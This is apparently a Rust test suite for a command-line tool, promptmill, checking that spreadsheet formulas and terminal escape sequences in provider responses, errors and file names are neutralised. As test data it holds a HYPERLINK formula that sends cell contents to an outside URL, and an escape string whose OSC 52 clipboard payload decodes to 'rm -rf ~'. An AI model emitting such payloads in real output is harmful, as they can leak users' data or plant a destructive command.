//! Malicious responses and errors: spreadsheet formulas and terminal escape sequences are made
//! harmless.

use promptmill::simulator::{Config, KeyRejection, Reaction, Script};

use crate::support::TestEnv;

const RUN: &str = "run jobs.csv -o out.csv";
const FORMULA: &str = "=HYPERLINK(\"https://example.com/?\"&A1,\"click\")";
/// Clears the screen, writes to the clipboard (OSC 52), and reverses the text direction.
const ESCAPES: &str = "\u{1b}[2J\u{1b}]52;c;cm0gLXJmIH4K\u{7}\u{9b}31mred\u{202e}";

/// Starts a provider that always returns this response.
fn env_with_response(text: &str) -> TestEnv {
    let script = Script::new().always(Reaction::Text(text.to_owned()));
    let env = TestEnv::new(Config::default().script(script));
    env.write("jobs.csv", "prompt,sum\na,=1+1\n");
    env
}

#[test]
fn formula_cells_are_prefixed_with_an_apostrophe() {
    let env = env_with_response(FORMULA);
    env.run(RUN).exits(0);
    let results = env.results("out.csv");
    assert_eq!(results.cell(1, "response"), format!("'{FORMULA}"));
    assert_eq!(results.cell(1, "sum"), "'=1+1");
}

#[test]
fn csv_raw_leaves_cells_unchanged() {
    let env = env_with_response(FORMULA);
    env.run(&format!("{RUN} --csv-raw")).exits(0);
    let results = env.results("out.csv");
    assert_eq!(results.cell(1, "response"), FORMULA);
    assert_eq!(results.cell(1, "sum"), "=1+1");
    let piped = env.run("export jobs.csv --csv-raw").exits(0).stdout;
    assert_eq!(piped, env.read("out.csv"));
}

#[test]
fn multi_line_responses_with_quotes_and_commas_are_exported_unchanged() {
    let text = "first, \"second\"\nthird\r\n\n字 🦀 é\t.";
    let env = env_with_response(text);
    env.run(RUN).exits(0);
    assert_eq!(env.results("out.csv").cell(1, "response"), text);
}

/// Asserts that the text contains no terminal control characters.
#[track_caller]
fn assert_sanitized(text: &str) {
    let bad = |c: &char| (c.is_control() && *c != '\n') || *c == '\u{202e}';
    assert_eq!(text.chars().find(bad), None, "{text:?}");
}

#[test]
fn provider_messages_are_printed_without_terminal_escapes() {
    for status in [400, 401, 403, 404, 429, 500] {
        let error = serde_json::json!({"error": {"message": format!("{ESCAPES} no")}});
        let reaction = Reaction::Json(status, error.to_string());
        let env = TestEnv::new(Config::default().script(Script::new().always(reaction)));
        env.write("jobs.csv", "prompt\na\n");
        let flags = "--max-attempts 1 --max-wait 0s --max-outage 0s";
        for args in [&format!("{RUN} {flags} -vv"), "status", "keys list"] {
            let output = env.run(args);
            assert_sanitized(&output.stderr);
            assert_sanitized(&output.stdout);
        }
    }
}

#[test]
fn plain_text_errors_are_sanitized() {
    let body = format!("Forbidden {ESCAPES}");
    let refusal = KeyRejection::Other { status: 403, body };
    let script = Script::new().always(Reaction::Reject(refusal));
    let env = TestEnv::new(Config::default().script(script));
    env.write("jobs.csv", "prompt\na\n");
    let output = env.run(RUN).exits(77).stderr_contains("Forbidden");
    assert_sanitized(&output.stderr);
}

#[test]
fn file_and_column_names_are_sanitized() {
    let env = TestEnv::new(Config::default());
    let name = "evil\u{1b}[2J.csv";
    env.write(name, "na\u{1b}me,prompt\n1\n");
    let output = env.run(&format!("run {name} -o out.csv")).exits(65);
    assert_sanitized(&output.stderr);
    env.write(name, "na\u{1b}me,prompt\n1,a\n");
    let output = env.run(&format!("run {name} -o out.csv")).exits(0);
    assert_sanitized(&output.stderr);
    assert_sanitized(&env.run("status").exits(0).stdout);
}

#[test]
fn a_closed_pipe_is_not_an_error() {
    let env = TestEnv::with_rows(2000);
    env.run("import jobs.csv").exits(0);
    let program = env!("CARGO_BIN_EXE_promptmill");
    let mut shell = std::process::Command::new("sh");
    let script = format!("{{ '{program}' export jobs.csv; echo code $? >&2; }} | head -n 1");
    let shell = shell.arg("-c").arg(script).current_dir(env.dir());
    let output = shell.output().unwrap();
    assert_eq!(String::from_utf8(output.stderr).unwrap(), "code 0\n");
}
